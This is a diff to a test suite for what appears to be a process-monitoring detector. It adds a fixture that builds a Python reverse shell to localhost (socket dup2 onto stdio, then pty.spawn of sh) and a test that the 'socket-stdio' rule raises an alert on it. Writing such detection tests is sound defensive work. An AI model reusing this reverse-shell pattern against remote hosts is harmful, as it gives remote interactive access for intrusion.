@@ -95,6 +95,14 @@ s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
 subprocess.run(["sh", "-c", "sleep 0.5 # " + sys.argv[1]])
 """
 
+PTY_SHELL = """
+import os, pty, socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn(["sh", "-c", "sleep 0.5 # " + sys.argv[2]])
+"""
+
 NAMED_SERVER = """
 import subprocess, sys
 with open("/proc/self/comm", "w") as f:      # named like a web server, listening on nothing
@@ -158,6 +166,14 @@ def scenarios(tmp_path_factory):
                                   % port])
         out["revshell"] = outer.pid
 
+        listener2 = subprocess.Popen([sys.executable, "-c", LISTENER, "3.0"],
+                                     stdout=subprocess.PIPE, universal_newlines=True)
+        out["pty_shell"] = marker()
+        subprocess.run([sys.executable, "-c", PTY_SHELL, listener2.stdout.readline().strip(),
+                        out["pty_shell"]], timeout=30)
+        listener2.kill()
+        listener2.wait()
+
         out["service"] = marker()
         subprocess.run([sys.executable, "-c", SERVICE, out["service"]], timeout=30)
 
@@ -205,6 +221,16 @@ def test_reverse_shell_is_socket_stdio_alert(scenarios):
     assert any("socket-stdio" in rules_of(e, "alert") for e in shells), shells
     finding = [f for e in shells for f in e["findings"] if f["rule"] == "socket-stdio"][0]
     assert finding["text"].startswith("stdin, stdout and stderr are a TCP socket"), finding
+
+
+def test_shell_on_a_pty_under_a_socket_parent_is_socket_stdio_alert(scenarios):
+    """python's reverse shell: dup2 of the socket, then pty.spawn: the shell's own stdio
+    is the pty, its parent's the TCP socket."""
+    sh = [e for e in the_event(scenarios, with_arg(scenarios["pty_shell"]))
+          if e["comm"] == "sh"]
+    assert sh and "socket-stdio" in rules_of(sh[0], "alert"), sh
+    assert "through a pseudo-terminal" in [f for f in sh[0]["findings"]
+                                           if f["rule"] == "socket-stdio"][0]["text"]
 
 
 def test_outer_shell_of_the_reverse_shell_is_silent(scenarios):
